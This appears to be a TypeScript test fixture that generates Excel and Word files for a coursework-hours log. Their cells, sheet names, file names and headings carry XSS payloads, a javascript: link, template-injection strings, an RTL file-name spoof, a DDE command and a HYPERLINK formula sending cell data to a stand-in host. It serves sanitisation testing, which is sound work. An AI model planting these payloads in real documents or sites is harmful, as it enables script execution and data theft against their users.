// A log whose every text tries to be something else: markup, a script, a formula, a template, a link.
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { Document, HeadingLevel, Packer, Paragraph } from 'docx';
import Excel from 'exceljs';

export const IMAGE = '<img src=x onerror=window.__hit=1>';
export const LINK = 'javascript:window.__hit=1';
const SHEETS = [
  '<img src=x onerror=__hit=1>',
  '"><svg onload=__hit=1>',
  "{{7-7}}'<b onclick=__hit=1>",
];
const TEXTS = [
  IMAGE,
  '"><script>window.__hit=1</script>',
  '</script><script>window.__hit=1</script><style>*{display:none}',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '{{constructor.constructor("window.__hit=1")()}}',
  '\u202egnp.exe\u2066<svg onload=window.__hit=1>\u2069',
  `<iframe srcdoc="<script>top.__hit=1</script>">${'<b>x</b>'.repeat(620)}`,
  "' onmouseover='window.__hit=1' autofocus onfocus='window.__hit=1",
  '+1+cmd|calc!A1',
  '@SUM(1,1)',
];
const HEADINGS = [
  'Applicant Name',
  'School District',
  'Name of Activity',
  'Date Completed',
  'Number of Hours',
  'Coursework Skill Area',
  'Justification of Relation to Coursework',
  'Description of Activity',
  'Confirmed',
];
const COURSES = ['IT Management', 'Technology Planning', 'Teaching and Learning'];
const day = (text: string) => new Date(`${text}T00:00:00Z`);

export const nth = (index: number): string => TEXTS[index % TEXTS.length] ?? '';

/** What each kind of row needs to be told of, by column. */
const KINDS: Record<number, Excel.CellValue>[] = [
  {},
  { 6: '' },
  { 7: '' },
  { 2: '' },
  { 3: `on ${IMAGE}` },
  { 3: day('2020-01-02') },
  { 3: day('2027-02-01') },
  { 4: IMAGE },
  { 4: 50 },
  { 5: IMAGE },
  { 5: 'Management' },
  { 5: 'Data Managment & Governence' },
  { 5: 'Finance and Budgeting' },
  { 7: `All day with lunch included ${IMAGE}` },
  { 8: IMAGE },
];

function makeRow(index: number): Excel.CellValue[] {
  const kind = KINDS[index % KINDS.length];
  const usual: Excel.CellValue[] = [
    IMAGE,
    nth(index + 1),
    `${index} ${nth(index)}`,
    day(`2026-0${1 + (index % 9)}-1${index % 10}`),
    2,
    COURSES[index % COURSES.length] ?? '',
    nth(index + 3),
    `${nth(index + 4)} ${index}`,
    '',
  ];
  return usual.map((value, column) => kind?.[column] ?? value);
}

/** Writes it into a folder, under a name like the rest of it. */
export async function writeHostileLog(folder: string): Promise<string> {
  const workbook = new Excel.Workbook();
  const log = workbook.addWorksheet(SHEETS[0]);
  log.addRow([...HEADINGS, IMAGE, LINK]);
  for (let index = 0; index < 3 * KINDS.length; index += 1) log.addRow(makeRow(index));
  log.addRow(makeRow(0));
  log.getCell('A2').note = IMAGE;
  log.getCell('F3').dataValidation = {
    type: 'list',
    formulae: [`"${IMAGE},IT Management"`],
    showErrorMessage: true,
    error: IMAGE,
  };
  for (const name of SHEETS.slice(1)) workbook.addWorksheet(name).addRows([[IMAGE], HEADINGS]);
  addSetUp(workbook);
  const file = path.join(folder, '<img src=x onerror=__hit=1>.xlsx');
  await workbook.xlsx.writeFile(file);
  return file;
}

function addSetUp(workbook: Excel.Workbook) {
  workbook.addWorksheet('AL-CTO Setup').addRows([
    ['Applicant', IMAGE],
    ['School district', nth(1)],
    ['Cohort', IMAGE],
    ['Issue date', day('2024-06-15')],
    ['Log sheets', SHEETS[0]],
    ['Form link', LINK],
    ['Plan folder', LINK],
    ['Plan Mission Statement', `found: ${IMAGE}`],
    ['Plan Evaluation Method', `confirmed on 2026-01-01: ${IMAGE}`],
    ['Plan Technology plan', `found: “${IMAGE}.docx”`],
    [IMAGE, IMAGE],
  ]);
}

/** A plan whose name and headings are of the same kind. */
export async function writeHostilePlan(folder: string) {
  const children = ['Mission Statement', 'Evaluation Method', 'Budget'].flatMap((title) => [
    new Paragraph({ text: `${title} ${IMAGE}`, heading: HeadingLevel.HEADING_1 }),
    new Paragraph({ text: title, heading: HeadingLevel.HEADING_2 }),
    new Paragraph(`${IMAGE} from 2024 to 2027.`),
  ]);
  const bytes = await Packer.toBuffer(new Document({ title: IMAGE, sections: [{ children }] }));
  writeFileSync(path.join(folder, `Plan ${IMAGE}.docx`), bytes);
  writeFileSync(path.join(folder, `Slides ${IMAGE}.pptx`), 'none');
}
